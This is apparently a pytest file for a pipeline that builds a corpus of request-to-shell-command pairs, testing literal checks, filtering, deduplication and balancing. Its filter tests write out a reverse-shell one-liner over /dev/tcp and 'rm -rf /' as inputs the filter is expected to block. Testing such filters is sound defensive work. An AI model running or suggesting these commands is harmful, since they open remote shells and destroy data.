"""The corpus holds what may be learnt, each request with one command, and never an examination."""

import json
from collections import Counter
from collections.abc import Iterable
from pathlib import Path

import pytest
from click.testing import CliRunner

from training.balancing import Shares, balanced
from training.corpus import build, cleaned, main
from training.development import DevelopmentSet, Question, read_questions, request_words
from training.expanding import Context, Pair
from training.filters import Reason, fault, normalised
from training.literals import missing_literals
from training.sources import first_program
from training.tally import Tally

INTENTS = """\
- cmd: wc -l {file}
  nl:
    - (count|how many) lines [are] in {file}
    - number of lines of {file}
- cmd: ls -la
  nl:
    - list everything here with details
"""


def pair(
    request: str, command: str, source: str = "nl2bash", *, id_: str = "", of: str = "bash"
) -> Pair:
    """Return the pair of *request* and *command* that row *id_* of *source* may be."""
    context = Context(shell=of)
    tool = first_program(command)
    return Pair(request, command, of, "linux", source, id_ or f"{source}:1", tool, context)


def clean(pairs: Iterable[Pair], *questions: Question) -> list[tuple[str, str]]:
    """Return requests and commands of what is left of *pairs*."""
    development = DevelopmentSet(questions)
    return [(one.request, one.command) for one in cleaned(pairs, development, Tally())]


@pytest.mark.parametrize(
    ("request_", "command"),
    [
        ("first 5 lines of a.txt", "head -n 5 a.txt"),
        ("the first five lines of a.txt", "head -n 5 a.txt"),
        ("files changed in the last week", "find . -type f -mtime -7"),
        ("files changed in the last 2 hours", "find . -type f -mmin -120"),
        ("all python files", 'find . -name "*.py"'),
        ("all php files", 'find . -name "*.php"'),
        ("list the users", "cut -d: -f1 /etc/passwd"),
        ("second column of data.csv", "awk -F, '{print $2}' data.csv"),
        ("sum the 3rd column of data.csv", "awk '{s += $3} END {print s}' data.csv"),
        ("replace foo by bar in a.txt", "sed -i 's/foo/bar/g' a.txt"),
        ("show the head of a.txt", "head a.txt"),
        ("biggest ten files", "du -a . | sort -rn | head -n 10"),
        ("drop errors of make", "make 2>/dev/null"),
        ("make id_rsa private", "chmod 600 id_rsa"),
        ("who listens on the https port", "lsof -i :443"),
        ("today's date as 2024-01-31", "date +%F"),
        ("sha256 of a.iso", "sha256sum a.iso"),
        ("restart nginx", "sudo systemctl restart nginx"),
        ("count .log files with errors", "grep -l error *.log | wc -l"),
    ],
)
def test_literals_that_follow_from_the_request_may_stay(request_: str, command: str) -> None:
    """A number, name or word that the request says, in whatever form, is not invented."""
    assert not list(missing_literals(request_, command))


@pytest.mark.parametrize(
    ("request_", "command", "literal"),
    [
        ("show the first lines of a.txt", "head -n 25 a.txt", "25"),
        ("files older than a week", "find . -mtime +30", "+30"),
        ("search for a word in all files", 'grep -r "banana" .', "banana"),
        ("list the files in a folder", "ls /home/me/things", "/home/me/things"),
        ("sort a file", "sort notes.txt", "notes.txt"),
        ("copy a file to the server", "scp a.txt bob@host.example.org:/srv", "a.txt"),
        ("ping a machine", "ping 10.1.2.3", "10.1.2.3"),
        ("replace a word in a.txt", "sed -i 's/apple/pear/g' a.txt", "apple"),
        ("lines with an error in a.txt", "awk '/panic/' a.txt", "panic"),
        ("show my device", "adb -s SERIAL shell", "SERIAL"),
        ("find all javascript files", 'find . -name "*.cpp"', "*.cpp"),
        ("list what is in the archive", "unzip -l pictures.zip", "pictures.zip"),
        ("delete the user", "userdel jonas", "jonas"),
        ("run it with another theme", "rich a --theme monokai", "monokai"),
    ],
)
def test_invented_literals_are_found(request_: str, command: str, literal: str) -> None:
    """A literal that the request does not say is named."""
    assert literal in list(missing_literals(request_, command))


@pytest.mark.parametrize(
    ("one", "reason"),
    [
        (pair("list files", "ls"), None),
        (pair("ls", "ls"), Reason.LENGTH),
        (pair("loop over files", "for f in *; do echo"), Reason.SYNTAX),
        (pair("loop over files", "for f in *; do echo $f; done", of="fish"), Reason.SYNTAX),
        (pair("free some space", "rm -rf /"), Reason.BLOCKED),
        (pair("delete everything in /", "rm -rf /"), None),
        (pair("make a shell for me", "bash -i >& /dev/tcp/h/1 0>&1"), Reason.BLOCKED),
        (pair("sort the file", "sort names.txt"), Reason.LITERALS),
        (pair("sort the file", "sort names.txt", "intent"), None),
        (pair("read from stdin", "nl -", "tldr"), Reason.UNNAMED),
        (pair("nl: read from stdin", "nl -", "tldr"), None),
        (pair("write a copy", "cat it | sudo tee here.txt"), Reason.LITERALS),
    ],
)
def test_fault_of_a_pair(one: Pair, reason: Reason | None) -> None:
    """What is wrong with a pair is said, and nothing is said of a good one."""
    assert fault(one) == reason


def test_typographic_quotes_become_those_of_a_shell() -> None:
    """A command copied from a web page is repaired before it is judged."""
    one = normalised(pair(" Find  pictures. ", "find . -name “*.jpg” –type f"))
    assert one.request == "Find pictures"
    assert one.command == 'find . -name "*.jpg" -type f'


def test_the_better_source_wins() -> None:
    """Of two commands for one request that of the better source stays; the same pair stays once."""
    pairs = [
        pair("list files", "ls -1", "intent"),
        pair("List files", "ls", "nl2bash"),
        pair("list files", "ls -1", "nl2bash"),
        pair("list files", "ls -1", of="zsh"),
    ]
    tally = Tally()
    kept = list(cleaned(pairs, DevelopmentSet(()), tally))

    assert [(one.command, one.shell) for one in kept] == [("ls -1", "bash"), ("ls -1", "zsh")]
    assert "| intent | nl2bash | 1 |" in tally.report()


def test_nothing_close_to_the_development_set_is_kept() -> None:
    """Neither a question in another form, nor one with nearly the same words and utility."""
    question = Question("how many lines in app.log mention a timeout", "grep")
    close = [
        pair("How many lines in app.log mention a timeout?", "grep -c timeout app.log", "intent"),
        pair("please how many lines in 'app.log' mention the timeout", "wc -l app.log", "intent"),
        pair("how many lines in app.log mention timeout now", "grep -c timeout app.log", "intent"),
        pair("show how many lines in app.log mention a timeout", "cat app.log | grep -c timeout"),
    ]
    far = [
        pair("how many lines in app.log mention timeout now", "awk /timeout/ app.log", "intent"),
        pair("how many lines in web.txt speak of errors", "grep -c errors web.txt", "intent"),
    ]

    assert clean([*close, *far], question) == [(one.request, one.command) for one in far]


def test_real_development_set_is_kept_out() -> None:
    """Every question there is now is dropped, though it comes as an intent with its own command."""
    questions = read_questions()
    pairs = [pair(one.request, f"{one.utility} x", "intent") for one in questions]
    polite = [pair(f"please {one.request.upper()}?", "true", "intent") for one in questions]

    assert clean([*pairs, *polite], *questions) == []


def test_request_words_leave_out_what_says_nothing() -> None:
    """Case, quotes, articles and politeness do not make another question."""
    assert request_words("How do I list the 'Files' of /tmp, please?") == ("list", "files", "/tmp")


def test_rich_tools_give_up_most_and_no_intent_vanishes() -> None:
    """A tool beyond its share is cut to it, first of all where one intent has many phrasings."""
    pairs = [pair(f"list files {n}", "ls", "intent", id_="files:1") for n in range(400)]
    pairs += [pair(f"list more {n}", "ls -l", "intent", id_=f"files:{n}") for n in range(2, 40)]
    pairs += [pair(f"who {n}", "who", "intent", id_="users:1") for n in range(50)]
    shares = Shares(full=100, power=0.5)

    kept = list(balanced(pairs, shares, frozenset(), seed=1))

    assert Counter(one.tool for one in kept) == {"ls": shares.of(438), "who": 50}
    assert shares.of(438) < 438
    assert {one.id for one in kept} == {one.id for one in pairs}


def test_sources_of_a_tool_give_up_the_same_share() -> None:
    """A collection of many rows does not crowd out the intents, whose ids are few."""
    pairs = [pair(f"list {n}", "ls", "intent", id_=f"files:{n % 9}") for n in range(400)]
    pairs += [pair(f"ls {n}", "ls", id_=f"nl2bash:{n}") for n in range(200)]

    kept = balanced(pairs, Shares(full=100, power=0.5), frozenset({"ls"}), seed=1)

    counts = Counter(one.source for one in kept)
    assert abs(counts["intent"] - 2 * counts["nl2bash"]) <= 2


def test_rare_tools_get_little_of_the_collections() -> None:
    """Of a tool that is not common a collection gives few pairs; intents and common tools all."""
    pairs = [pair(f"do {n} with x", "x", "fig", id_=f"fig:{n}") for n in range(100)]
    pairs += [pair(f"ask {n}", "x", "intent") for n in range(30)]
    pairs += [pair(f"do {n} with ls", "ls", "fig", id_=f"fig:{n}") for n in range(100)]

    kept = balanced(pairs, Shares(rare=5), frozenset({"ls"}), seed=1)

    counts = Counter((one.tool, one.source) for one in kept)
    assert counts == {("x", "fig"): 5, ("x", "intent"): 30, ("ls", "fig"): 100}


def test_balance_does_not_depend_on_the_order() -> None:
    """The same pairs in another order give the same corpus; another seed gives another one."""
    pairs = [pair(f"list files {n}", "ls", "intent") for n in range(300)]

    one, other = (build(order, Shares(50), 1, Tally()) for order in (pairs, pairs[::-1]))

    assert one == other
    assert build(pairs, Shares(50), 2, Tally()) != one


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with a few intents and rows of each collection."""
    (tmp_path / "intents").mkdir()
    (tmp_path / "intents" / "small.yaml").write_text(INTENTS, "utf-8")
    rows = {
        "tldr": [{"nl": "install a package with apt", "cmd": "apt install package_name"}],
        "nl2bash": [{"nl": "list the files", "cmd": "ls"}, {"nl": "sort", "cmd": "sort x.txt"}],
        "fig": [
            {"tool": "tick", "kind": "opt", "cmd": "tick ls --all", "desc": "Show all the tickets"}
        ],
    }
    for name, listed in rows.items():
        lines = "".join(json.dumps(row) + "\n" for row in listed)
        (tmp_path / f"{name}.jsonl").write_text(lines, "utf-8")
    return tmp_path


def corpus(folder: Path, *options: str) -> tuple[bytes, str]:
    """Return the corpus of *folder*, and its report."""
    out = folder / "corpus.jsonl"
    arguments = [str(out), "--intents", str(folder / "intents"), *options]
    result = CliRunner().invoke(main, arguments, catch_exceptions=False)
    assert result.exit_code == 0
    return out.read_bytes(), (folder / "corpus.md").read_text("utf-8")


def test_corpus_is_written_with_its_report(folder: Path) -> None:
    """Every line is a pair of one of the sources; the report says what became of each source."""
    written, report = corpus(folder, "--sources", str(folder))

    rows = [json.loads(line) for line in written.splitlines()]
    assert {row["source"] for row in rows} == {"intent", "tldr", "nl2bash", "fig"}
    assert all(row["request"] and row["command"] and row["shell"] == "bash" for row in rows[:1])
    assert "| nl2bash | 2 | 1 | 50.0% |" in report
    assert f"| {Reason.LITERALS.value} |" in report


def test_corpus_is_the_same_byte_for_byte(folder: Path) -> None:
    """The same sources and seed give the same file, another seed another one."""
    first = corpus(folder, "--sources", str(folder))
    assert corpus(folder, "--sources", str(folder)) == first
    assert corpus(folder, "--sources", str(folder), "--seed", "9")[0] != first[0]


def test_corpus_needs_no_sources(folder: Path) -> None:
    """Without a folder of collections it is made of the intents alone."""
    written, _ = corpus(folder)
    assert {json.loads(line)["source"] for line in written.splitlines()} == {"intent"}
